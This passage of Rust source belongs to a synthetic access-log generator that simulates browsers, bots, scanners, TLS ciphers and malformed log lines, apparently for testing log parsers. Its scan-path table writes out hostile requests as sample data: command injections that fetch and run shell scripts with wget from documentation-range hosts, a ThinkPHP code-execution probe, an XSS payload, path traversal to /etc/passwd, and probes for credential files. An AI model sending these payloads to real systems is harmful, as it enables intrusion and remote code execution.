                    ("GT-S7582", "JDQ39"),
                    ("Nexus S", "IMM76D"),
                    ("LG-P760", "JZO54K"),
                ]);
                let lang = *rng.pick(&["en-us", "de-de", "fr-fr", "es-es", "ru-ru", "pt-br"]);
                Ua::new(format!(
                    "Mozilla/5.0 (Linux; U; Android 4.{}.{}; {lang}; {dev} Build/{build}) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
                    rng.range(0, 3),
                    rng.range(1, 4)
                ))
            }
            5 => Ua::new("Mozilla/5.0 (Symbian/3; Series60/5.2 NokiaN8-00/012.002; Profile/MIDP-2.1 Configuration/CLDC-1.1 ) AppleWebKit/533.4 (KHTML, like Gecko) NokiaBrowser/7.3.0 Mobile Safari/533.4 3gpp-gba"),
            _ => Ua::new(format!(
                "Mozilla/5.0 (iPhone; CPU iPhone OS 5_1_1 like Mac OS X) AppleWebKit/534.46 (KHTML, like Gecko) Version/5.1 Mobile/9B{} Safari/7534.48.3",
                rng.range(176, 206)
            )),
        },
    }
}

fn make_ua(rng: &mut Rng, kind: Kind, proto: Proto) -> Ua {
    match kind {
        Kind::Browser => {
            if proto == Proto::Tls12 && rng.chance(4000) {
                older_browser(rng)
            } else {
                modern_browser(rng)
            }
        }
        Kind::Bot => {
            let idx = rng.weighted(
                &BOTS
                    .iter()
                    .enumerate()
                    .map(|(i, b)| (i, b.weight))
                    .collect::<Vec<_>>(),
            );
            let b = &BOTS[idx];
            let mut ua = Ua::new(b.ua);
            ua.v4 = b.v4;
            ua.v6 = b.v6;
            ua.h2 = rng.chance(4000);
            ua
        }
        Kind::Monitor => {
            let (s, private) = rng.weighted(
                &MONITORS
                    .iter()
                    .map(|&(s, p, w)| ((s, p), w))
                    .collect::<Vec<_>>(),
            );
            let mut ua = Ua::new(s);
            ua.private = private;
            ua
        }
        Kind::Lib => library(rng, proto),
        Kind::Old => old_client(rng, proto),
        Kind::Scanner => {
            let mut ua = Ua::new(*rng.pick(SCANNER_UAS));
            ua.http10 = rng.chance(1500);
            ua
        }
        Kind::Odd => Ua::new(*rng.pick(ODD_UAS)),
    }
}

const V6_PREFIXES: &[&str] = &[
    "2a02:", "2a01:", "2001:", "2600:", "2603:", "2a00:", "2406:", "2804:", "240e:", "2409:",
    "2c0f:", "2a0d:",
];

fn make_ip(rng: &mut Rng, ua: &Ua, kind: Kind) -> String {
    if ua.private {
        return if rng.chance(5000) {
            format!(
                "10.{}.{}.{}",
                rng.below(256),
                rng.below(256),
                rng.range(2, 254)
            )
        } else {
            format!("172.31.{}.{}", rng.below(256), rng.range(2, 254))
        };
    }
    let v6_per_10k = match kind {
        Kind::Old => 0,
        Kind::Scanner => 500,
        Kind::Bot if ua.v6.is_none() => 0,
        Kind::Bot => 3000,
        _ => 1650,
    };
    if rng.chance(v6_per_10k) {
        return match ua.v6 {
            Some(prefix) => format!("{prefix}{:x}::{:x}", rng.below(0x100), rng.range(1, 0xffff)),
            None => {
                let p = *rng.pick(V6_PREFIXES);
                let g: Vec<u64> = (0..7).map(|_| rng.below(0x1_0000)).collect();
                if rng.chance(4000) {
                    format!(
                        "{p}{:x}:{:x}:{:x}::{:x}",
                        g[0],
                        g[1],
                        g[2],
                        rng.range(1, 0xff)
                    )
                } else {
                    format!(
                        "{p}{:x}:{:x}:{:x}:{:x}:{:x}:{:x}:{:x}",
                        g[0],
                        g[1],
                        g[2],
                        g[3] | 0x100,
                        g[4],
                        g[5],
                        g[6]
                    )
                }
            }
        };
    }
    if !ua.v4.is_empty() {
        let &(a, b, lo, hi) = rng.pick(ua.v4);
        return format!(
            "{a}.{b}.{}.{}",
            rng.range(u64::from(lo), u64::from(hi)),
            rng.range(1, 254)
        );
    }
    let a = loop {
        let a = rng.range(1, 223);
        if a != 10 && a != 127 && a != 100 && a != 172 && a != 192 {
            break a;
        }
    };
    format!(
        "{a}.{}.{}.{}",
        rng.below(256),
        rng.below(256),
        rng.range(1, 254)
    )
}

const USERS: &[&[u8]] = &[
    b"alice",
    b"bob",
    b"carol",
    b"dave",
    b"erin",
    b"j.smith",
    b"m\xc3\xbcller",
    b"admin",
    b"deploy",
    b"svc-backup",
    b"monitor",
    b"jenkins",
    b"user@example.com",
    b"test",
];

fn make_client(rng: &mut Rng, kind: Kind, proto: Proto, fmt: Format) -> Client {
    let ua = make_ua(rng, kind, proto);
    let ip = make_ip(rng, &ua, kind);
    let mut prefix = Vec::with_capacity(ip.len() + 16);
    prefix.extend_from_slice(ip.as_bytes());
    prefix.extend_from_slice(b" - ");
    let user_per_10k = match kind {
        Kind::Lib | Kind::Monitor => 500,
        Kind::Browser => 120,
        _ => 0,
    };
    if rng.chance(user_per_10k) {
        let user: &[u8] = rng.pick::<&[u8]>(USERS);
        escape_into(&mut prefix, user, fmt);
    } else if rng.below(20_000) == 0 {
        // Authenticated with an empty user name: Apache writes `""`, nginx nothing.
        if fmt == Format::Apache {
            prefix.extend_from_slice(b"\"\"");
        }
    } else {
        prefix.push(b'-');
    }
    prefix.push(b' ');
    Client {
        prefix,
        ua: escaped(&ua.raw, fmt),
        kind,
        h2: ua.h2,
        http10: ua.http10,
        xp: ua.xp,
    }
}

/// One way a client shows up on a protocol: the client plus its usual cipher.
#[derive(Debug, Clone, Copy)]
struct Profile {
    client: u32,
    cipher: u16,
}

#[derive(Debug)]
struct Pool {
    proto: Proto,
    profiles: Vec<Profile>,
    popularity: Cdf,
}

fn kinds_for(proto: Proto) -> &'static [(Kind, u32)] {
    match proto {
        Proto::Tls13 => &[
            (Kind::Browser, 790),
            (Kind::Bot, 80),
            (Kind::Monitor, 10),
            (Kind::Lib, 100),
            (Kind::Scanner, 15),
            (Kind::Odd, 5),
        ],
        Proto::Tls12 => &[
            (Kind::Browser, 500),
            (Kind::Bot, 180),
            (Kind::Monitor, 20),
            (Kind::Lib, 250),
            (Kind::Scanner, 40),
            (Kind::Odd, 10),
        ],
        Proto::Tls11 => &[(Kind::Old, 70), (Kind::Lib, 15), (Kind::Scanner, 15)],
        Proto::Tls1 => &[(Kind::Old, 70), (Kind::Lib, 12), (Kind::Scanner, 18)],
        Proto::Ssl3 => &[(Kind::Old, 90), (Kind::Scanner, 10)],
        Proto::Plain => &[
            (Kind::Browser, 30),
            (Kind::Bot, 25),
            (Kind::Monitor, 10),
            (Kind::Lib, 20),
            (Kind::Scanner, 13),
            (Kind::Odd, 2),
        ],
    }
}

fn pick_cipher(rng: &mut Rng, proto: Proto, client: &Client) -> u16 {
    let table = proto.ciphers();
    let name = if client.xp && matches!(proto, Proto::Ssl3 | Proto::Tls1) {
        rng.weighted(XP_CIPHERS)
    } else if matches!(client.kind, Kind::Lib | Kind::Bot | Kind::Monitor) && rng.chance(5000) {
        // OpenSSL-based clients put AES-256 first.
        match proto {
            Proto::Tls13 => "TLS_AES_256_GCM_SHA384",
            Proto::Tls12 => "ECDHE-RSA-AES256-GCM-SHA384",
            _ => rng.weighted(table),
        }
    } else if proto == Proto::Tls13
        && client.kind == Kind::Browser
        && client.ua.windows(7).any(|w| w == b"Android")
    {
        // Phones without AES instructions prefer ChaCha20.
        if rng.chance(3000) {
            "TLS_CHACHA20_POLY1305_SHA256"
        } else {
            rng.weighted(table)
        }
    } else {
        rng.weighted(table)
    };
    table
        .iter()
        .position(|&(c, _)| c == name)
        .expect("cipher in table") as u16
}

// ---------------------------------------------------------------------------
// The web site: pages, assets, attack targets
// ---------------------------------------------------------------------------

#[derive(Debug)]
struct Resource {
    path: String,
    size: u32,
}

#[derive(Debug)]
struct Site {
    pages: Vec<Resource>,
    page_pop: Cdf,
    assets: Vec<Resource>,
    asset_pop: Cdf,
    /// Escaped attack paths and whether the server rejects them with 400.
    scans: Vec<(Vec<u8>, bool)>,
    robots: usize,
    sitemap: usize,
}

const WORDS: &[&str] = &[
    "tls",
    "cipher",
    "nginx",
    "apache",
    "release",
    "notes",
    "guide",
    "install",
    "config",
    "debian",
    "backup",
    "security",
    "update",
    "server",
    "client",
    "proxy",
    "cache",
    "cloud",
    "linux",
    "docker",
    "network",
    "privacy",
    "performance",
    "logging",
    "metrics",
    "monitoring",
    "database",
    "migration",
    "support",
    "pricing",
    "team",
    "roadmap",
    "changelog",
    "faq",
    "api",
    "webhooks",
    "billing",
    "account",
    "password",
    "reset",
    "download",
    "mobile",
    "desktop",
    "report",
    "summary",
    "weekly",
    "winter",
    "sale",
    "coffee",
    "garden",
    "bike",
    "travel",
    "recipe",
    "photo",
    "camera",
    "music",
    "video",
    "games",
    "books",
    "shoes",
    "jacket",
    "lamp",
    "chair",
    "desk",
    "phone",
    "tablet",
    "laptop",
    "watch",
    "red",
    "blue",
    "green",
    "black",
    "white",
    "small",
    "large",
    "new",
];

const SCAN_PATHS: &[(&[u8], bool)] = &[
    (b"/wp-login.php", false),
    (b"/xmlrpc.php", false),
    (b"/.env", false),
    (b"/.git/config", false),
    (b"/wp-admin/setup-config.php", false),
    (b"/phpmyadmin/index.php", false),
    (b"/admin/config.php", false),
    (b"/.aws/credentials", false),
    (b"/server-status", false),
    (b"/actuator/health", false),
    (b"/owa/auth/logon.aspx", false),
    (b"/HNAP1/", false),
    (b"/boaform/admin/formLogin", false),
    (b"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", false),
    (b"/solr/admin/info/system?wt=json", false),
    (b"/?XDEBUG_SESSION_START=phpstorm", false),
    (b"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", false),
    (b"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP", false),
    (b"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget -O- http://198.51.100.23/t.sh|sh`)", false),
    (b"/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws", false),
    (b"/search?q=\"><script>alert(1)</script>", false),
    (b"/%2e%2e/%2e%2e/%2e%2e/etc/passwd", false),
    (b"/GponForm/diag_Form?images/", false),
    (b"/some path/with spaces.html", true),
    (b"/caf\xc3\xa9/menu", true),
];

fn hex8(rng: &mut Rng) -> String {
    format!("{:08x}", rng.below(1 << 32))
}

impl Site {
    fn new(rng: &mut Rng, fmt: Format) -> Self {
        let w = |rng: &mut Rng| *rng.pick(WORDS);
        let mut pages = Vec::new();
        for p in [
            "/",
            "/index.html",
            "/about/",
            "/contact/",
            "/pricing/",
            "/faq/",
            "/login",
            "/signup",
            "/blog/",
            "/docs/",
            "/products/",
            "/feed/",
        ] {
            pages.push(Resource {
                path: p.to_string(),
                size: rng.range(6_000, 60_000) as u32,
            });
        }
        let mut rest = Vec::new();
        for _ in 0..700 {
            rest.push(format!(
                "/blog/{}/{:02}/{}-{}/",
                rng.range(2015, 2026),
                rng.range(1, 12),
                w(rng),
                w(rng)
            ));
        }
        for _ in 0..400 {
            let section = *rng.pick(&["getting-started", "api", "guides", "reference", "admin"]);
            rest.push(format!("/docs/{section}/{}-{}.html", w(rng), w(rng)));
        }
        for _ in 0..400 {
            rest.push(format!(
                "/products/{}-{}-{}",
                w(rng),
                w(rng),
                rng.range(1000, 99_999)
            ));
        }
        for _ in 0..60 {
            rest.push(format!("/category/{}/", w(rng)));
        }
        for _ in 0..60 {
            rest.push(format!("/tag/{}/", w(rng)));
        }
        shuffle(rng, &mut rest);
        for path in rest {
            let size = rng.range(8_000, 140_000) as u32;
            pages.push(Resource { path, size });
        }
        let robots = pages.len();
        pages.push(Resource {
            path: "/robots.txt".into(),
            size: 412,
        });
        let sitemap = pages.len();
        pages.push(Resource {
            path: "/sitemap.xml".into(),
            size: 18_734,
        });

        let mut assets = vec![
            Resource {
                path: "/favicon.ico".into(),
                size: 15_086,
            },
            Resource {
                path: "/apple-touch-icon.png".into(),
                size: 7_412,
            },
        ];
        for name in ["main", "vendor", "theme", "print", "fonts", "admin"] {
            assets.push(Resource {
                path: format!("/static/css/{name}.{}.css", hex8(rng)),
                size: rng.range(2_000, 220_000) as u32,
            });
        }
        for i in 0..30 {
            let name = if i < 4 {
                ["app", "vendor", "runtime", "polyfills"][i]
            } else {
                w(rng)
            };
            assets.push(Resource {
                path: format!("/static/js/{name}.{}.js", hex8(rng)),
                size: rng.range(1_500, 900_000) as u32,
            });
        }
        for font in [
            "inter-var",
            "inter-var-italic",
            "jetbrains-mono",
            "merriweather-bold",
        ] {
            assets.push(Resource {
                path: format!("/fonts/{font}.woff2"),
                size: rng.range(20_000, 320_000) as u32,
            });
        }
        for _ in 0..300 {
            let ext = *rng.pick(&["jpg", "jpg", "png", "webp", "svg", "gif"]);
            assets.push(Resource {
                path: format!("/images/{}-{}.{ext}", w(rng), rng.range(1, 999)),
                size: rng.range(900, 850_000) as u32,
            });
        }
        for _ in 0..60 {
            assets.push(Resource {
                path: format!(
                    "/wp-content/uploads/{}/{:02}/{}-{}.jpg",
                    rng.range(2019, 2026),
                    rng.range(1, 12),
                    w(rng),
                    rng.range(1, 99)
                ),
                size: rng.range(20_000, 1_200_000) as u32,
            });
        }
        // The favicon, CSS and the main bundles stay the most popular; images vary.
        shuffle(rng, &mut assets[12..]);

        let scans = SCAN_PATHS
            .iter()
            .map(|&(p, bad)| (escaped(p, fmt), bad))
            .collect();
        Site {
            page_pop: Cdf::zipf(pages.len()),
            asset_pop: Cdf::zipf(assets.len()),
            pages,
            assets,
            scans,
            robots,
            sitemap,
        }
    }
}

fn shuffle<T>(rng: &mut Rng, xs: &mut [T]) {
    for i in (1..xs.len()).rev() {
        let j = rng.below(i as u64 + 1) as usize;
        xs.swap(i, j);
    }
}

// ---------------------------------------------------------------------------
// Time
// ---------------------------------------------------------------------------

const MONTHS: [&[u8; 3]; 12] = [
    b"Jan", b"Feb", b"Mar", b"Apr", b"May", b"Jun", b"Jul", b"Aug", b"Sep", b"Oct", b"Nov", b"Dec",
];

/// Relative traffic per local hour (quiet nights, busy afternoons).
const HOURLY: [u64; 24] = [
    40, 30, 24, 20, 20, 26, 45, 75, 110, 135, 145, 150, 145, 140, 145, 150, 148, 140, 130, 125,
    120, 105, 80, 56,
];

/// Days since 1970-01-01 to (year, month 1..=12, day 1..=31), proleptic Gregorian.
fn civil_from_days(days: i64) -> (i64, u32, u32) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let month = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let year = yoe + era * 400 + i64::from(month <= 2);
    (year, month, day)
}

#[derive(Debug)]
struct Clock {
    now: i64,
    left_this_second: u64,
    tz_secs: i64,
    tz_text: [u8; 5],
    rate: u64,
    hourly_sum: u64,
    rendered_for: i64,
    /// `[21/Nov/2026:18:07:40 +0200]`
    text: Vec<u8>,
}

impl Clock {
    fn new(cfg: &Config) -> Self {
        Clock {
            now: cfg.start - 1,
            left_this_second: 0,
            tz_secs: cfg.tz_secs,
            tz_text: cfg.tz_text,
            rate: u64::from(cfg.rate),
            hourly_sum: HOURLY.iter().sum(),
            rendered_for: i64::MIN,
            text: Vec::with_capacity(32),
        }
    }

    /// Moves to the time of the next line (several lines share each second).
    fn tick(&mut self, rng: &mut Rng) {
        while self.left_this_second == 0 {
            self.now += 1;
            let hour = ((self.now + self.tz_secs).rem_euclid(86_400) / 3600) as usize;
            let mean2 = 2 * self.rate * HOURLY[hour] * 24 / self.hourly_sum;
            self.left_this_second = rng.below(mean2 + 1);
        }
        self.left_this_second -= 1;
        if self.rendered_for != self.now {
            self.render();
        }
    }

    fn render(&mut self) {
        let local = self.now + self.tz_secs;
        let (y, mo, d) = civil_from_days(local.div_euclid(86_400));
        let sod = local.rem_euclid(86_400) as u32;
        let t = &mut self.text;
        t.clear();
        t.push(b'[');
        push2(t, d);
        t.push(b'/');
        t.extend_from_slice(MONTHS[mo as usize - 1]);
        t.push(b'/');
        push_u64(t, y as u64);
        t.push(b':');
        push2(t, sod / 3600);
        t.push(b':');
        push2(t, sod / 60 % 60);
        t.push(b':');
        push2(t, sod % 60);
        t.push(b' ');
        t.extend_from_slice(&self.tz_text);
        t.push(b']');
        self.rendered_for = self.now;
    }
}

// ---------------------------------------------------------------------------
// The generator
// ---------------------------------------------------------------------------

const SITE: &str = "https://www.example.com";
const TOTAL_CLIENTS: usize = 50_000;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum LineKind {
    Valid,
    Malformed,
}

#[derive(Debug, Clone, Copy)]
enum Target {
    Page(usize),
    Asset(usize),
    ApiGet,
    Query,
    Post,
    Health,
    Scan(usize),
}

/// Positions inside a valid line that the malformed variants break.
#[derive(Debug, Clone, Copy)]
struct Marks {
    start: usize,
    request_close: usize,
    ua_close: usize,
}

#[derive(Debug)]
struct Gen {
    fmt: Format,
    malformed_per_mille: u64,
    rng: Rng,
    clients: Vec<Client>,
    pools: Vec<Pool>,
    proto_mix: Cdf,
    site: Site,
    clock: Clock,
}

impl Gen {
    fn new(cfg: &Config) -> Self {
        let mut rng = Rng::new(cfg.seed);
        let fmt = cfg.format;
        let site = Site::new(&mut rng, fmt);
        let mut clients: Vec<Client> = Vec::with_capacity(TOTAL_CLIENTS);
        let mut pools: Vec<Pool> = Vec::new();
        for &(proto, share) in &PROTO_MIX {
            let n = (TOTAL_CLIENTS * share as usize / 10_000).max(50);
            let mut profiles = Vec::with_capacity(n);
            for _ in 0..n {
                let kind = rng.weighted(kinds_for(proto));
                let client = make_client(&mut rng, kind, proto, fmt);
                let cipher = pick_cipher(&mut rng, proto, &client);
                profiles.push(Profile {
                    client: clients.len() as u32,
                    cipher,
                });
                clients.push(client);
            }
            pools.push(Pool {
                proto,
                profiles,
                popularity: Cdf::zipf(1),
            });
        }
        // Some TLS 1.3 clients also connect with TLS 1.2 (middleboxes, old app builds),
        // and some clients of every kind first knock on plain HTTP.
        let tls13 = Proto::Tls13.index();
        let tls12 = Proto::Tls12.index();
        let plain = Proto::Plain.index();
        let n13 = pools[tls13].profiles.len();
        for _ in 0..n13 / 20 {
            let p = pools[tls13].profiles[rng.below(n13 as u64) as usize];
            let c = &clients[p.client as usize];
            if matches!(c.kind, Kind::Browser | Kind::Lib) {
                let cipher = pick_cipher(&mut rng, Proto::Tls12, c);
                pools[tls12].profiles.push(Profile {
                    client: p.client,
                    cipher,
                });
            }
        }
        let n_tls = clients.len();
        for _ in 0..TOTAL_CLIENTS / 50 {
            let client = rng.below(n_tls as u64) as u32;
            pools[plain].profiles.push(Profile { client, cipher: 0 });
        }
        for pool in &mut pools {
            shuffle(&mut rng, &mut pool.profiles);
            pool.popularity = Cdf::zipf(pool.profiles.len());
        }
        Gen {
            fmt,
            malformed_per_mille: u64::from(cfg.malformed_per_mille),
            rng,
            clients,
            pools,
            proto_mix: Cdf::new(PROTO_MIX.iter().map(|&(_, w)| u64::from(w))),
            site,
            clock: Clock::new(cfg),
        }
    }

    /// Appends one line (always ending in `\n`) to `buf`.
    fn line(&mut self, buf: &mut Vec<u8>) -> LineKind {
        self.clock.tick(&mut self.rng);
        if self.malformed_per_mille > 0 && self.rng.below(1000) < self.malformed_per_mille {
            self.malformed(buf);
            LineKind::Malformed
        } else {
            self.valid(buf, None);
            LineKind::Valid
        }
    }

    fn malformed(&mut self, buf: &mut Vec<u8>) {
        match self.rng.below(100) {
            // Cut short (disk full, copytruncate mid-write) ...
            0..=19 => {
                let m = self.valid(buf, None);
                let cut = self.rng.range(m.start as u64 + 5, buf.len() as u64 - 3) as usize;
                buf.truncate(cut);
                buf.push(b'\n');
            }
            // ... possibly glued to the next line.
            20..=29 => {
                let m = self.valid(buf, None);
                let cut = self.rng.range(m.start as u64 + 5, buf.len() as u64 - 3) as usize;
                buf.truncate(cut);
                self.valid(buf, None);
            }
            // Binary garbage.
            30..=44 => {
                let n = self.rng.range(8, 300);
                for _ in 0..n {
                    let b = loop {
                        let b = self.rng.next_u64() as u8;
                        if b != b'\n' && b != b'\r' {
                            break b;
                        }
                    };
                    buf.push(b);
                }
                buf.push(b'\n');
            }
            // A run of NULs (copytruncate with a writer lacking O_APPEND), then a line.
            45..=54 => {
                let n = self.rng.range(16, 4096) as usize;
                buf.resize(buf.len() + n, 0);
                self.valid(buf, None);
            }
            // Unbalanced quotes.
            55..=74 => {
                let m = self.valid(buf, None);
                let at = if self.rng.chance(5000) {
                    m.request_close
                } else {
                    m.ua_close
                };
                buf.remove(at);
            }
            // A bad date.
            _ => {
                let variant = self.rng.below(7) as u32;
                self.valid(buf, Some(variant));
            }
        }
    }

    fn bad_date(&mut self, variant: u32) -> Vec<u8> {
        let mut t = self.clock.text.clone();
        match variant {
            0 => t[1..3].copy_from_slice(b"32"),
            1 => t[4..7].copy_from_slice(b"Foo"),
            2 => t[13..15].copy_from_slice(b"25"),
            3 => {
                t.truncate(21);
                t.push(b']');
            }
            4 => {
                // ISO 8601 where the common log format belongs.
                let local = self.clock.now + self.clock.tz_secs;
                let (y, mo, d) = civil_from_days(local.div_euclid(86_400));
                let tz = self.clock.tz_text;
                t = format!(
                    "[{y:04}-{mo:02}-{d:02}T{}+{}{}:{}{}]",
                    std::str::from_utf8(&t[13..21]).expect("ascii"),
                    tz[1] as char,
                    tz[2] as char,
                    tz[3] as char,
                    tz[4] as char
                )
                .into_bytes();
                if tz[0] == b'-' {
                    let i = t.len() - 7;
                    t[i] = b'-';
                }
            }
            5 => {
                t.pop();
            }
            _ => {
                t.clear();
                t.push(b'[');
                push_u64(&mut t, self.clock.now as u64);
                t.push(b']');
            }
        }
        t
    }

    /// Writes one well-formed line; `bad_date` swaps in a broken timestamp.
    fn valid(&mut self, buf: &mut Vec<u8>, bad_date: Option<u32>) -> Marks {
        let start = buf.len();
        let broken_date = bad_date.map(|v| self.bad_date(v));
        let Gen {
            fmt,
            rng,
            clients,
            pools,
            proto_mix,
            site,
            clock,
            ..
        } = self;
        let fmt = *fmt;
        let pool = &pools[proto_mix.pick(rng)];
        let proto = pool.proto;
        let profile = pool.profiles[pool.popularity.pick(rng)];
        let client = &clients[profile.client as usize];

        // %h %l %u %t
        buf.extend_from_slice(&client.prefix);
        buf.extend_from_slice(broken_date.as_deref().unwrap_or(&clock.text));
        buf.push(b' ');

        let odd = rng.below(10_000);
        let request_close;
        let ua_close;
        if proto == Proto::Plain && odd < 150 {
            // A TLS ClientHello sent to the plain-HTTP port.
            buf.push(b'"');
            let mut raw = vec![
                0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03,
            ];
            for _ in 0..rng.range(24, 56) {
                raw.push(rng.next_u64() as u8);
            }
            escape_into(buf, &raw, fmt);
            request_close = buf.len();
            buf.extend_from_slice(match fmt {
                Format::Apache => b"\" 400 226 \"-\" \"",
                Format::Nginx => b"\" 400 157 \"-\" \"",
            });
            buf.push(b'-');
            ua_close = buf.len();
            buf.extend_from_slice(b"\" ");
        } else if odd >= 9_980 {
            // A connection that never sent a request.
            match fmt {
                Format::Apache => buf.extend_from_slice(b"\"-"),
                Format::Nginx => buf.push(b'"'),
            }
            request_close = buf.len();
            buf.extend_from_slice(match fmt {
                Format::Apache => b"\" 408 - \"-\" \"-",
                Format::Nginx => b"\" 400 0 \"-\" \"-",
            });
            ua_close = buf.len();
            buf.extend_from_slice(b"\" ");
        } else {
            let marks = write_request(rng, site, client, proto, fmt, buf);
            request_close = marks.0;
            ua_close = marks.1;
        }

        // %{SSL_PROTOCOL}x %{SSL_CIPHER}x
        let table = proto.ciphers();
        let cipher = if proto != Proto::Plain && rng.chance(200) {
            rng.weighted(table)
        } else {
            table[usize::from(profile.cipher)].0
        };
        buf.extend_from_slice(proto.name().as_bytes());
        buf.push(b' ');
        buf.extend_from_slice(cipher.as_bytes());
        buf.push(b'\n');
        Marks {
            start,
            request_close,
            ua_close,
        }
    }
}

fn choose_target(rng: &mut Rng, site: &Site, kind: Kind) -> (Target, &'static str) {
    let page = |rng: &mut Rng| Target::Page(site.page_pop.pick(rng));
    let asset = |rng: &mut Rng| Target::Asset(site.asset_pop.pick(rng));
    let scan = |rng: &mut Rng| Target::Scan(rng.below(site.scans.len() as u64) as usize);
    let r = rng.below(1000);
    match kind {
        Kind::Browser | Kind::Old => match r {
            0..=549 => (asset(rng), "GET"),
            550..=889 => (page(rng), "GET"),
            890..=939 => (Target::Query, "GET"),
            940..=949 => (Target::ApiGet, "GET"),
            950..=998 => (Target::Post, "POST"),
            _ => (page(rng), "HEAD"),
        },
        Kind::Bot => match r {
            0..=799 => (page(rng), "GET"),
            800..=839 => (Target::Page(site.robots), "GET"),
            840..=879 => (Target::Page(site.sitemap), "GET"),
            880..=979 => (asset(rng), "GET"),
            _ => (page(rng), "HEAD"),
        },
        Kind::Monitor => match r {
            0..=599 => (Target::Health, "GET"),
            600..=899 => (Target::Page(0), "HEAD"),
            _ => (Target::Page(0), "GET"),
        },
        Kind::Lib => match r {
            0..=449 => (Target::ApiGet, "GET"),
            450..=549 => (Target::Query, "GET"),
            550..=749 => (Target::Post, "POST"),
            750..=899 => (page(rng), "GET"),
            900..=949 => (asset(rng), "GET"),
            _ => (page(rng), "HEAD"),
        },
        Kind::Scanner | Kind::Odd => match r {
            0..=699 => (scan(rng), "GET"),
            700..=799 => (scan(rng), "POST"),
            800..=849 => (Target::Page(0), "HEAD"),
            _ => (page(rng), "GET"),
        },
    }
}

fn push_word(buf: &mut Vec<u8>, rng: &mut Rng) {
    buf.extend_from_slice(rng.pick(WORDS).as_bytes());
}

/// Writes `"%r" %>s %b "%{Referer}i" "%{User-Agent}i" ` and returns the positions of
/// the request's and the user agent's closing quotes.
fn write_request(
    rng: &mut Rng,
    site: &Site,
    client: &Client,
    proto: Proto,
    fmt: Format,
    buf: &mut Vec<u8>,
) -> (usize, usize) {
    let (target, method) = choose_target(rng, site, client.kind);
    buf.push(b'"');
    buf.extend_from_slice(method.as_bytes());
    buf.push(b' ');
    let path_start = buf.len();
    let mut size: u64;
    let mut rejected = false;
    match target {
        Target::Page(i) => {
            let r = &site.pages[i];
            buf.extend_from_slice(r.path.as_bytes());
            size = u64::from(r.size);
            if r.path.starts_with("/blog/2") && rng.chance(300) {
                buf.extend_from_slice(b"?utm_source=");
                buf.extend_from_slice(
                    rng.pick(&["newsletter", "twitter", "facebook", "mastodon"])
                        .as_bytes(),
                );
                buf.extend_from_slice(b"&utm_medium=social&utm_campaign=");
                push_word(buf, rng);
                buf.extend_from_slice(b"-2026");
            }
            // Dynamic pages vary a little in size.
            if !r.path.ends_with(".txt") && !r.path.ends_with(".xml") {
                size += rng.below(64);
            }
        }
        Target::Asset(i) => {
            let r = &site.assets[i];
            buf.extend_from_slice(r.path.as_bytes());
            size = u64::from(r.size);
            if r.path.ends_with(".css") && rng.chance(1000) {
                buf.extend_from_slice(b"?ver=6.4.");
                push_u64(buf, rng.range(1, 5));
            }
        }
        Target::ApiGet => {
            match rng.below(4) {
                0 => {
                    buf.extend_from_slice(b"/api/v1/items?id=");
                    push_u64(buf, rng.range(1, 250_000));
                    buf.extend_from_slice(b"&fields=name,price,stock");
                }
                1 => {
                    buf.extend_from_slice(b"/api/v1/items/");
                    push_u64(buf, rng.range(1, 250_000));
                }
                2 => {
                    buf.extend_from_slice(b"/api/v2/users/");
                    push_u64(buf, rng.range(1, 90_000));
                    buf.extend_from_slice(b"/orders?page=");
                    push_u64(buf, rng.range(1, 12));
                    buf.extend_from_slice(b"&per_page=25");
                }
                _ => {
                    buf.extend_from_slice(b"/api/v1/search?q=");
                    push_word(buf, rng);
                    buf.push(b'+');
                    push_word(buf, rng);
                    buf.extend_from_slice(b"&limit=");
                    buf.extend_from_slice(rng.pick(&["10", "20", "50"]).as_bytes());
                }
            }
            size = rng.range(80, 6_000);
        }
        Target::Query => {
            if rng.chance(5000) {
                buf.extend_from_slice(b"/search?q=");
                push_word(buf, rng);
                buf.push(b'+');
                push_word(buf, rng);
                if rng.chance(4000) {
                    buf.extend_from_slice(b"&page=");
                    push_u64(buf, rng.range(2, 9));
                }
            } else {
                buf.extend_from_slice(b"/products/?category=");
                push_word(buf, rng);
                buf.extend_from_slice(b"&sort=");
                buf.extend_from_slice(
                    rng.pick(&["price_asc", "price_desc", "newest", "rating"])
                        .as_bytes(),
                );
                buf.extend_from_slice(b"&page=");
                push_u64(buf, rng.range(1, 20));
            }
            size = rng.range(9_000, 90_000);
        }
        Target::Post => {
            let p = *rng.pick(&[
                "/api/v1/events",
                "/api/v1/events",
                "/api/v1/login",
                "/graphql",
                "/cart/add",
                "/checkout",
                "/contact/",
                "/wp-admin/admin-ajax.php",
                "/api/v1/items?batch=true",
            ]);
            buf.extend_from_slice(p.as_bytes());
            size = rng.range(2, 900);
        }
        Target::Health => {
            buf.extend_from_slice(rng.pick(&["/healthz", "/health", "/status"]).as_bytes());
            size = 2;
        }
        Target::Scan(i) => {
            let (p, bad) = &site.scans[i];
            buf.extend_from_slice(p);
            rejected = *bad;
            size = 0;
        }
    }
    let path_len = (buf.len() - path_start) as u64;
    buf.push(b' ');
    let h2 = client.h2 && proto != Proto::Plain;
    buf.extend_from_slice(if h2 {
        b"HTTP/2.0"
    } else if client.http10 {
        b"HTTP/1.0"
    } else {
        b"HTTP/1.1"
    });
    let request_close = buf.len();
    buf.extend_from_slice(b"\" ");

    // %>s
    let status: u64 =
        if proto == Proto::Plain && !matches!(client.kind, Kind::Monitor) && rng.chance(7500) {
            301
        } else if rejected {
            400
        } else {
            let r = rng.below(1000);
            match target {
                Target::Page(_) => match r {
                    0..=879 => 200,
                    880..=929 => 304,
                    930..=954 => 301,
                    955..=959 => 302,
                    960..=994 => 404,
